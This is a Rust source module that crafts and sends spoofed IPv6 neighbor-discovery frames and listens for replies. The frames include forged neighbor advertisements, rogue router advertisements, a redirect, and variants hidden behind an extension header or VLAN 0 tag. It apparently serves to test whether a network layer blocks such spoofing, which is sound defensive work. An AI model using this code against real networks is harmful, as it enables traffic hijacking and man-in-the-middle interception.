//! Spoofed neighbor and router frames (RFC 4861), and a listener for them.

use std::{fmt::Write as _, net::Ipv6Addr};

use anyhow::{Context, Result};
use rustix::net::{RecvFlags, SendFlags};

use crate::sys;

const ROUTER: u8 = 134;
const QUESTION: u8 = 135;
const NEIGHBOR: u8 = 136;
const REDIRECT: u8 = 137;
/// ICMPv6, and a header of options in front of it, as values of "next header".
const ICMP: u8 = 58;
const OPTIONS: u8 = 60;
/// Prefix in its router advertisements, from the documentation range (RFC 3849).
const PREFIX: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 0);
const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
/// Unassigned address.
const FALSE_MAC: [u8; 6] = [2, 0, 0, 0, 0, 0x99];

fn mac_of(device: &str) -> Result<[u8; 6]> {
    let path = format!("/sys/class/net/{device}/address");
    let text = std::fs::read_to_string(&path).with_context(|| format!("read {path}"))?;
    let mut mac = [0; 6];
    for (byte, part) in mac.iter_mut().zip(text.trim().split(':')) {
        *byte = u8::from_str_radix(part, 16)?;
    }
    Ok(mac)
}

/// The address that an interface makes of its MAC address (RFC 4291, 2.5.6).
fn link_local([a, b, c, d, e, f]: [u8; 6]) -> Ipv6Addr {
    Ipv6Addr::from_bits(0xfe80 << 112 | u128::from(u64::from_be_bytes([a ^ 2, b, c, 0xff, 0xfe, d, e, f])))
}

/// A frame to all nodes; `message` is that of ICMPv6, whose checksum is filled in. With `hidden` a header without an option is in front
/// of it.
fn frame(mac: [u8; 6], from: Ipv6Addr, mut message: Vec<u8>, hidden: bool) -> Vec<u8> {
    let length = u16::try_from(message.len()).unwrap_or(0).to_be_bytes();
    let pseudo = [
        &from.octets()[..],
        &ALL_NODES.octets(),
        &[0, 0],
        &length,
        &[0, 0, 0, ICMP],
        &message,
    ]
    .concat();
    let mut sum: u32 = pseudo
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(pair.get(1).copied().unwrap_or(0)))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    message[2..4].copy_from_slice(&(!u16::try_from(sum).unwrap_or(0)).to_be_bytes());
    let (next, options): (u8, &[u8]) = if hidden {
        (OPTIONS, &[ICMP, 0, 1, 4, 0, 0, 0, 0])
    } else {
        (ICMP, &[])
    };
    let length = u16::try_from(options.len() + message.len())
        .unwrap_or(0)
        .to_be_bytes();
    let ethernet = [&[0x33, 0x33, 0, 0, 0, 1][..], &mac, &[0x86, 0xdd]].concat();
    let ip = [
        &[0x60, 0, 0, 0][..],
        &length,
        &[next, 255],
        &from.octets(),
        &ALL_NODES.octets(),
    ]
    .concat();
    [ethernet, ip, options.to_vec(), message].concat()
}

/// With the tag of VLAN 0, which receivers ignore.
fn tagged(frame: &[u8]) -> Vec<u8> {
    let (addresses, rest) = frame.split_at(12);
    [addresses, &[0x81, 0, 0, 0], rest].concat()
}

/// "I am `target`, at this MAC address."
fn neighbor(target: Ipv6Addr, mac: [u8; 6]) -> Vec<u8> {
    [
        &[NEIGHBOR, 0, 0, 0, 0xa0, 0, 0, 0][..],
        &target.octets(),
        &[2, 1],
        &mac,
    ]
    .concat()
}

/// Neighbor solicitation for `target` from this MAC address.
fn question(target: Ipv6Addr, mac: [u8; 6]) -> Vec<u8> {
    [
        &[QUESTION, 0, 0, 0, 0, 0, 0, 0][..],
        &target.octets(),
        &[1, 1],
        &mac,
    ]
    .concat()
}

/// "I am a router, and this is the network's prefix."
fn router(mac: [u8; 6]) -> Vec<u8> {
    let prefix = [
        &[3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0][..],
        &PREFIX.octets(),
    ]
    .concat();
    [
        &[ROUTER, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0][..],
        &prefix,
        &[1, 1],
        &mac,
    ]
    .concat()
}

/// Says lies about the address `of` and about routers, and at last the truth about the address `own`, which is this machine's.
pub fn tell(device: &str, own: Ipv6Addr, of: Ipv6Addr) -> Result<()> {
    let socket = sys::frames(device)?;
    let mac = mac_of(device)?;
    let local = link_local(mac);
    let redirect = [
        &[REDIRECT, 0, 0, 0, 0, 0, 0, 0][..],
        &local.octets(),
        &of.octets(),
    ]
    .concat();
    for frame in [
        frame(mac, own, neighbor(of, mac), false),
        frame(mac, local, neighbor(of, mac), true),
        frame(mac, of, neighbor(of, mac), false),
        frame(mac, of, question(own, mac), false),
        frame(FALSE_MAC, own, neighbor(own, FALSE_MAC), false),
        frame(mac, local, router(mac), false),
        frame(mac, local, router(mac), true),
        frame(mac, link_local(FALSE_MAC), router(FALSE_MAC), false),
        frame(mac, local, redirect, false),
        tagged(&frame(mac, local, router(mac), false)),
        frame(mac, own, neighbor(own, mac), false),
    ] {
        rustix::net::send(&socket, &frame, SendFlags::empty()).context("send a frame")?;
    }
    Ok(())
}

/// Prints what others say of neighbors and routers, a line each, until somebody says to have the address `until`. The first line is "listening".
pub fn listen(device: &str, until: Ipv6Addr) -> Result<()> {
    let socket = sys::frames(device)?;
    println!("listening");
    let mut buffer = vec![0; 65_536];
    loop {
        let (length, _) =
            rustix::net::recv(&socket, &mut buffer[..], RecvFlags::empty()).context("receive a frame")?;
        let Some(heard) = heard(&buffer[..length]) else {
            continue;
        };
        let mut line = String::new();
        for byte in heard.mac {
            write!(line, "{byte:02x}:")?;
        }
        println!("{} {} {}", line.trim_end_matches(':'), heard.kind, heard.target);
        if heard.kind == NEIGHBOR && heard.target == until {
            return Ok(());
        }
    }
}

struct Heard {
    mac: [u8; 6],
    kind: u8,
    target: Ipv6Addr,
}

/// Parses a frame about neighbors or routers.
fn heard(frame: &[u8]) -> Option<Heard> {
    let mac = *frame.get(6..)?.first_chunk()?;
    let (ethernet, packet) = frame.split_at_checked(14)?;
    let (ip, rest) = packet.split_at_checked(40)?;
    let message = match (&ethernet[12..], ip[6]) {
        ([0x86, 0xdd], ICMP) => rest,
        ([0x86, 0xdd], OPTIONS) => rest.get(8 + 8 * usize::from(*rest.get(1)?)..)?,
        _ => return None,
    };
    let kind = *message.first()?;
    let target = message.get(8..24).and_then(|target| target.first_chunk::<16>());
    (133..=REDIRECT).contains(&kind).then(|| Heard {
        mac,
        kind,
        target: target.map_or(Ipv6Addr::UNSPECIFIED, |target| Ipv6Addr::from(*target)),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_told_is_heard() {
        let mac = [0x52, 0x54, 0, 1, 2, 3];
        assert_eq!(
            link_local(mac),
            "fe80::5054:ff:fe01:203".parse::<Ipv6Addr>().expect("an address")
        );
        for hidden in [false, true] {
            let told = frame(mac, link_local(mac), neighbor(PREFIX, mac), hidden);
            let heard = heard(&told).expect("an advertisement");
            assert_eq!((heard.mac, heard.kind, heard.target), (mac, NEIGHBOR, PREFIX));
        }
        assert!(heard(&[0; 60]).is_none());
    }
}
